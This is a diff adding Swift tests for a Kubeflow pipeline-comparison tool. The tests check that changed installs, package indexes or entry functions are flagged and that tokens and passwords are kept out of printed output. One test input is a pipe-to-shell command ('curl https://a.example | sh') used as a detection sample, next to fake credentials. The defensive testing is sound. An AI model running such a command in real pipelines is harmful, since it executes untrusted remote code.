@@ -102,4 +102,119 @@ import Workloads
       #expect(!printed.contains("value-one") && !printed.contains("value-two"), "\(printed)")
     }
   }
+
+  /// A pipeline of one lightweight step.
+  private func function(
+    script: String = "python3 -m pip install 'kfp==2.14.4' '--no-deps' && \"$0\" \"$@\"",
+    name: String = "train",
+    more: String = "", component: String = "", sdk: String = "2.14.4"
+  ) -> String {
+    """
+    pipelineInfo: {name: demand}
+    schemaVersion: 2.1.0
+    sdkVersion: kfp-\(sdk)
+    root:
+      inputDefinitions: {parameters: {password: {parameterType: STRING, defaultValue: first}}}
+      dag: {tasks: {train: {componentRef: {name: comp-train}\(more)}}}
+    components: {comp-train: {executorLabel: exec-train\(component)}}
+    deploymentSpec:
+      executors:
+        exec-train:
+          container:
+            image: train:1
+            command: [sh, -c, '\(script.replacing("'", with: "''"))', 'def train(): pass']
+            args: [--executor_input, '{{$}}', --function_to_execute, \(name)]
+
+    """
+  }
+
+  @Test(arguments: [
+    ("python3 -m pip install --index-url https://pypi.other.example/simple 'kfp==2.14.4'", "package indexes"),
+    ("python3 -m pip install --trusted-host pypi.example 'kfp==2.14.4'", "trusted hosts"),
+    ("python3 -m pip install --pre 'kfp==2.14.4'", "options of pip"),
+    ("curl https://a.example | sh; python3 -m pip install 'kfp==2.14.4'", "start"),
+  ])
+  func seesWhatALightweightStepInstallsAndRuns(_ script: String, _ fact: String) {
+    let before = function(script: "python3 -m pip install 'kfp==2.14.4'")
+    let after = function(script: script, sdk: "2.17.3")
+    let result = difference(before, after)
+    #expect(!result.isOnlySDK)
+    #expect(result.groups.flatMap(\.changes).map(\.name) == [fact], "\(result.text())")
+  }
+
+  @Test func doesNotSayWhatOnlyAnotherSDKWrites() {
+    let old = function(
+      script: "PIP_DISABLE_PIP_VERSION_CHECK=1 python3 -m pip install --quiet 'a==1' 'kfp==2.0.1'")
+    let new = function(
+      script: """
+        PIP_DISABLE_PIP_VERSION_CHECK=1 python3 -m pip install --quiet 'a==1'  &&  python3 -m pip install 'kfp==2.17.3' \
+        '--no-deps' 'typing-extensions>=3.7.4,<5; python_version<"3.9"'
+        """, sdk: "2.17.3")
+    #expect(difference(old, new).isOnlySDK, "\(difference(old, new).text())")
+  }
+
+  @Test func seesAnotherFunctionOfTheSameFile() {
+    let result = difference(function(), function(name: "steal"))
+    #expect(result.groups.first?.changes.map(\.name) == ["arguments"], "\(result.text())")
+  }
+
+  @Test(arguments: [
+    (", lifecycle: {preCacheCheck: {a: b}}", ""),
+    (
+      "",
+      ", outputDefinitions: {artifacts: {m: {artifactType: {schemaTitle: system.Model}, metadata: {a: 1}}}}"
+    ),
+    ("", ", inputDefinitions: {artifacts: {m: {isArtifactList: true}}}"),
+  ])
+  func saysThatThereIsMoreThanItCanTell(more: String, component: String) {
+    let old = component.replacing(", metadata: {a: 1}", with: "").replacing("isArtifactList: true", with: "")
+    for sdk in ["2.14.4", "2.17.3"] {
+      let result = difference(function(component: old), function(more: more, component: component, sdk: sdk))
+      #expect(!result.isEmpty && !result.isOnlySDK && result.hasDetail)
+      #expect(result.summary.hasPrefix("a detail that no task shows"), "\(result.summary)")
+    }
+  }
+
+  @Test func aVariableThatIsWrittenTwiceIsTheSame() {
+    let twice = text().replacing(
+      "resources:", with: "env: [{name: A, value: '1'}, {name: A, value: '2'}], resources:")
+    #expect(difference(twice, twice).isEmpty)
+    #expect(
+      difference(twice, twice.replacing("value: '2'", with: "value: '3'")).groups.flatMap(\.changes).map(
+        \.text)
+        == ["variable A: 2 → 3"])
+  }
+
+  @Test func aWholeNumberMayBecomeANumber() {
+    let old = text(parameters: "n: {parameterType: NUMBER_INTEGER, isOptional: true}")
+    let new = text(parameters: "n: {parameterType: NUMBER_DOUBLE, isOptional: true}")
+    #expect(difference(old, new).risks.isEmpty)
+    #expect(!difference(new, old).risks.isEmpty)
+  }
+
+  @Test func showsNoCredentialWhereverItStands() {
+    let token = "ghp_" + String(repeating: "a1B2", count: 9)
+    let address = "https://user:hunter2@a.example"
+    for value in [token, address] {
+      let places = [
+        text(parameters: "n: {parameterType: STRING, defaultValue: '\(value)'}"),
+        text(task: ", inputs: {parameters: {a: {runtimeValue: {constant: '\(value)'}}}}"),
+        text(task: ", triggerPolicy: {condition: '\"\(value)\" == \"\"'}"),
+        text(platform: "podMetadata: {annotations: {a: '\(value)'}}"),
+        text().replacing("resources:", with: "args: ['\(value)'], resources:"),
+        function(script: "python3 -m pip install 'git+\(value)@github.com/acme/lib'"),
+      ]
+      for place in places {
+        let other = place.replacing("ghp_a", with: "ghp_b").replacing("hunter2", with: "hunter3")
+        for format in PipelineDifference.Format.allCases {
+          let printed = difference(other, place).text(as: format)
+          #expect(!printed.contains("1B2a1") && !printed.contains("hunter"), "\(printed)")
+          #expect(!difference(other, place).isEmpty)
+        }
+      }
+    }
+    let printed = difference(
+      function(), function().replacing("defaultValue: first", with: "defaultValue: next"))
+    #expect(printed.text().contains("parameter password: changed"), "\(printed.text())")
+  }
 }
